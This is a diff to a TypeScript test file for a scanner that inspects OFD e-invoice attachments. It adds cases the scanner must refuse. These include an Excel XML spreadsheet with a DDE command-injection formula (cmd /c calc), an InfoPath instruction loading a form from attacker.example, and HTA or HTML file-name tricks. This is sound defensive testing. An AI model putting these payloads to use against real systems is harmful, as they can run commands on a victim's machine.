@@ -53,6 +53,17 @@ const DATA_LOOK_ALIKES: [string, () => Promise<Buffer>][] = [
         ),
       ),
   ],
+  // Round 18: an instruction to Office written as the invoice's text, the format in capitals: data.
+  [
+    'whose text names an Office instruction, declared XBRL',
+    () =>
+      ofdAttachedData(
+        'data.xml',
+        'Doc_0/Attachs/data.xml',
+        INVOICE_DATA.replace('价税合计', '&lt;?mso-application progid="Excel.Sheet"?&gt;'),
+        'XBRL',
+      ),
+  ],
   // The same name beside the list and at the root: both data.
   [
     'stored under the same name at the package root too',
@@ -103,9 +114,30 @@ describe('an e-invoice’s data attached to an OFD', () => {
     ],
     ['an html root', 'Doc_0/Attachs/data.xml', '<?xml version="1.0"?><html><body>x</body></html>'],
     ['declared GBK', 'Doc_0/Attachs/data.xml', INVOICE_DATA.replace('UTF-8', 'GBK')],
+    // Round 18: Office's XML handler opens a file by its mso-application instruction, in Excel
+    // (an XML Spreadsheet's formulas call DDE), Word or InfoPath (which loads the form it names).
+    [
+      'an instruction to open it in Excel',
+      'Doc_0/Attachs/data.xml',
+      `<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="x"><Table><Row><Cell ss:Formula="=cmd|' /c calc'!A0"/></Row></Table></Worksheet></Workbook>`,
+    ],
+    [
+      'an InfoPath form instruction after the data’s root',
+      'Doc_0/Attachs/data.xml',
+      INVOICE_DATA.replace('</Invoice>', '</Invoice><?mso-infoPathSolution href="https://attacker.example/f.xsn"?>'),
+    ],
   ])('%s: refused', async (_, entry, data) => {
     const loc = entry.endsWith('.dat') ? 'data.dat' : 'data.xml';
     expect((await inspect(await ofdAttachedData(loc, entry, data))).findings).toContain('OFD_ATTACHMENT');
+  });
+
+  it('accepts a Name with the extension of XML data (round 18)', async () => {
+    const named = ofdAttachmentEntry('xml', 'data.xml').replace('original_invoice', 'original_invoice.xml');
+    const bytes = await ofdAttachmentList(named, [{ name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA }]);
+    expect(await inspect(bytes)).toEqual({
+      findings: [],
+      warnings: [['OFD_ATTACHED_DATA', { name: 'original_invoice.xml' }]],
+    });
   });
 
   it('refuses data over the cap, a missing file, one without a location, and one of two locations that is no data', async () => {
@@ -127,6 +159,18 @@ describe('an e-invoice’s data attached to an OFD', () => {
       // A location readers could resolve differently.
       await ofdAttachedData('./data.xml', 'Doc_0/Attachs/data.xml', INVOICE_DATA),
       await ofdAttachedData('data%2Exml', 'Doc_0/Attachs/data.xml', INVOICE_DATA),
+      // Round 18: what a reader names the file it opens by says another program: a web page, an HTA.
+      await ofdAttachedData('data.xml', 'Doc_0/Attachs/data.xml', INVOICE_DATA, 'html'),
+      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml').replace('original_invoice', 'invoice.hta'), [
+        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
+      ]),
+      await ofdAttachmentList(ofdAttachmentEntry('xml', 'data.xml').replace('Format=', 'x:Format="html" Format='), [
+        { name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA },
+      ]),
+      await ofdAttachmentList(
+        '<ofd:Attachment ID="20" Name="original_invoice"><ofd:FileLoc>data.xml</ofd:FileLoc></ofd:Attachment>',
+        [{ name: 'Doc_0/Attachs/data.xml', data: INVOICE_DATA }],
+      ),
     ];
     for (const bytes of refused) expect((await inspect(bytes)).findings).toEqual(['OFD_ATTACHMENT']);
   });
